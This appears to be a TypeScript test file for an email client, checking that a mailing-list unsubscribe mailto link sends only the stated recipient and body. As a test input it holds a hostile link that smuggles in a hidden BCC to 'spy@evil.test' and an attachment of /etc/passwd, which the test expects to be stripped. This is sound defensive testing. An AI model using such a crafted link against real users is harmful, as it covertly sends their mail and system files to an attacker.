import { QueryClient } from '@tanstack/react-query';
import { expect, test } from 'vitest';
import { createComposeCommands } from '../../../renderer/features/composer/compose-commands.ts';
import type { ApiClient } from '../../../shared/api/client.ts';
import type { DraftContent } from '../../../shared/model/draft.ts';
import { fakeMail } from './fake-mail.ts';

test('the message that leaves a list is only what the link says, from the address that received the list', async () => {
  const from = { name: 'Mara', address: 'mara+news@lab.test' };
  const prepared = {
    ...{ accountId: 1, from, subject: 'Re: Issue 2', html: '<p>x</p>', text: 'x', format: 'html', files: [] },
    ...{ to: [{ name: '', address: 'news@list.test' }], cc: [from], bcc: [], references: ['a@b'] },
    ...{ inReplyTo: 'a@b', relation: { kind: 'reply', messageId: 3 } },
  };
  const calls: [string, unknown][] = [];
  const call = async (method: string, input: unknown): Promise<unknown> => {
    calls.push([method, input]);
    if (method === 'compose.prepare') return prepared;
    return method === 'drafts.create' ? { draftId: 7 } : { outboxId: 1, sendAt: 0 };
  };
  const compose = createComposeCommands({ call } as unknown as ApiClient, new QueryClient());
  const about = fakeMail().messages[0]!;
  await compose.sendMailto('mailto:leave@list.test?body=off&bcc=spy@evil.test&attach=/etc/passwd', about);
  const { content } = calls[1]![1] as { content: DraftContent };
  expect(content).toEqual({
    ...{ accountId: 1, from, to: [{ name: '', address: 'leave@list.test' }], cc: [], bcc: [], files: [] },
    ...{ subject: 'unsubscribe', format: 'text', html: '', text: 'off' },
    ...{ relation: null, inReplyTo: null, references: [] },
  });
  expect(calls[2]).toEqual(['outbox.send', { draftId: 7 }]);
});
